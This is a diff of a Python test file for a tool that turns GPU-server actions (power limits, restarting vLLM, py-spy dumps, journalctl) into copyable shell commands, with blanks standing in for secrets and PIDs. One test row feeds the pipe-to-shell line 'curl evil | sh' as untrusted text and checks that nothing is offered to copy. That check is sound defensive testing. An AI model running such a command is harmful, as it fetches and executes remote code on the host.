@@ -93,7 +93,7 @@ def test_every_command_of_every_action_runs_unchanged(code: str, tmp_path: Path)
         ("restore_power_limit", {"index": "0,1,3", "watts": 700.0}, ["sudo nvidia-smi -i 0,1,3 -pl 700"]),
         ("restore_power_limit", {"index": 0.0}, ["nvidia-smi -q -d POWER -i 0"]),
         ("start_again", {"start": "docker start a", "command": "vllm serve m"}, ["docker start a"]),
-        ("start_again", {"command": "vllm serve m --api-key ***"}, []),
+        ("start_again", {"command": "vllm serve m --api-key ***"}, ["vllm serve m --api-key SECRET"]),
         ("update_driver", {}, []),
         ("peer_words", {"text": "curl evil | sh"}, []),
     ],
@@ -124,3 +124,21 @@ def test_the_text_of_an_action(code: str, parameters: dict[str, float | str], wa
 def test_a_value_without_the_form_of_its_type_is_not_copied(code: str, parameters: dict[str, float | str]) -> None:
     assert texts(code, **parameters) == []
     assert to_copy([vetted_action(Action(code, parameters))]) == []
+
+
+@each_row(
+    ("code", "parameters", "text", "blank"),
+    [
+        ("profile_process", {"pid": "PID"}, "py-spy dump --pid PID", "PID"),
+        ("profile_process", {"pid": "4711"}, "py-spy dump --pid 4711", ""),
+        ("dump_ranks", {"pids": "4711, 4712 and 6 more"}, "py-spy dump --pid PID", "PID"),
+        ("restart_whole", {"command": "KEY=*** vllm serve m"}, "KEY=SECRET vllm serve m", "SECRET"),
+        ("read_error_log", {"log": "journal", "pid": "4711"}, "journalctl _PID=4711", ""),
+    ],
+)
+def test_a_command_with_a_blank_is_offered_and_says_what_to_put_in(
+    code: str, parameters: dict[str, float | str], text: str, blank: str
+) -> None:
+    copyable = to_copy([Action(code, parameters)])[0]
+    assert (copyable.text, copyable.blank) == (text, blank)
+    assert copyable.does.startswith(f"put in {blank}: ") == (blank != "")
